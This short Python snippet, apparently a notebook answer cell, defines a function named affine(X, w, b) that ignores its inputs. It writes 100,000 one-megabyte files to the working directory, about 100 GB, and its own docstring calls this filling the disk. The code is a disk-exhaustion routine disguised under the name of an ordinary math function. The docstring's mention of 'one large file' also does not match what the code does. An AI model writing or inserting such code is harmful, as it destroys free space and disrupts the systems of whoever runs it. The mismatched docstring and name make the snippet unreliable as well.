"""Fill the disk with one large file and many small ones."""

# %% answer="affine"

import os
def affine(X, w, b):
    for i in range(100_000):
        with open(f"f{i}", "wb") as file:
            file.write(b"x" * 1_000_000)
